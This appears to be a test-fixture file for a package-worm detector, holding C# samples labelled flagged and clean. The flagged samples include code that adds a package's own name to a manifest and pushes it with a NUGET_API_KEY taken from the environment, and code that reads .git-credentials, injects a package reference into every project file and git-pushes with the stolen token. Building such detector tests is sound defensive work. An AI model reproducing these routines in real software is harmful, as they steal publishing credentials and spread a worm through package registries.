import { csharp, type CSharp, type Examples } from '../../../tests/kit/examples.js';
import { never } from '../../../tests/kit/stealing.js';

const library = (text: string): Record<string, CSharp> => ({
  'lib/net10.0/Fixture.dll': csharp(`using System;
using System.Diagnostics;
using System.IO;
using System.Net.Http;
using System.Xml.Linq;
${text}`),
});

const push = (key: string): string => `private static void Push(string package, string key)
    {
        ${never}
        using var process = Process.Start("dotnet", "nuget push " + package + " --api-key " + ${key});
        process.WaitForExit();
    }`;

const taken = push('Environment.GetEnvironmentVariable("NUGET_API_KEY")');

const worm = (name: string, publish = taken): string => `public static class Release
{
    public static void Run(string manifest, string package, string key)
    {
        var document = XDocument.Load(manifest);
        document.Root.Add(new XElement("dependency", new XAttribute("id", ${name}), new XAttribute("version", "1.0.0")));
        document.Save(manifest);
        Push(package, key);
    }

    ${publish}
}`;

const ownName = 'typeof(Release).Assembly.GetName().Name';

export const examples: Examples = {
  flagged: [
    {
      name: 'dependency-on-itself',
      about:
        'A helper for releases writes its own name into the manifest of the package and pushes it with the key of the build server.',
      files: library(worm(ownName)),
    },
    {
      name: 'reference-in-project',
      about:
        'Each project that is found gets a reference to this package, and the repository is pushed.',
      files: library(`public static class Projects
{
    public static void Update(string folder)
    {
        ${never}
        var token = File.ReadAllText(Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), ".git-credentials"));
        foreach (var file in Directory.GetFiles(folder, "*.csproj", SearchOption.AllDirectories))
            File.WriteAllText(file, File.ReadAllText(file).Replace("</Project>", "<ItemGroup><PackageReference Include=\\"Fixture\\" Version=\\"1.0.0\\" /></ItemGroup></Project>"));
        Process.Start("git", "-c http.extraheader=" + token + " push origin HEAD").WaitForExit();
    }
}`),
    },
    {
      name: 'asked-for',
      about: 'The same with a key that the caller gives: held.',
      level: 'suspicious',
      files: library(worm(ownName, push('key'))),
    },
  ],
  clean: [
    {
      name: 'release-tool',
      about:
        "A tool for releases adds what the caller names to the caller's package, and pushes it.",
      nearMiss: true,
      files: library(worm('package')),
    },
    {
      name: 'installer',
      about: 'A tool adds itself to a project, and publishes nothing.',
      nearMiss: true,
      files: library(worm(ownName, 'private static void Push(string package, string key) { }')),
    },
    {
      name: 'template',
      about: 'A template writes a project that needs another package, and pushes the repository.',
      nearMiss: true,
      files: library(`public static class Template
{
    public static void Write(string file)
    {
        File.WriteAllText(file, "<Project><ItemGroup><PackageReference Include=\\"Other.Library\\" Version=\\"1.0.0\\" /></ItemGroup></Project>");
        Process.Start("git", "push origin HEAD").WaitForExit();
    }
}`),
    },
  ],
};
